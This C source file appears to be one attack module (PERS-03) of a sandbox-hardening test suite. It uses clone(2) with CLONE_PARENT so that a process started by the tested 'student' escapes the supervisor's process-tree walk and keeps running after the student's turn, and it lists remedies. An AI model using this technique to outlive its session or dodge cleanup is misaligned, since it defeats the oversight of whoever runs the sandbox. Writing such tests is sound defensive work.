// SPDX-License-Identifier: MIT
/*
 * Goal:  be there when the turn is over.
 * Means: clone(2) with CLONE_PARENT. The new process is the child of whoever started us: walking
 *        the tree down from the student's process never meets it, and if the worker is that parent,
 *        it has a child it does not know of.
 */
#include "attacks/persistence/survivor.h"

#include <linux/sched.h>
#include <signal.h>
#include <sys/syscall.h>

static enum claim run(const struct brief *b)
{
	long child;
	int line[2];

	attempting(b);
	open_line(line);
	child = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, 0);
	if (child)
		return child < 0 ? denied("clone CLONE_PARENT") : until_gone(line);
	slip_away();
	pause_ms(LIFE_MS);
	_exit(0);
}

const struct attack attack = {
	.effect = "a process of the student runs on, as the child of who started it",
	.means = "clone(2) with CLONE_PARENT",
	.oracle = "survivor",
	.quick = true,
	.id = "PERS-03",
	.attack_id = "T1543, CWE-459",
	.remedy = "seccomp on clone's flags; a cgroup; a supervisor that ends all its children",
	.refs = (const char *const[]){ "clone(2)", NULL },
	.run = run,
};
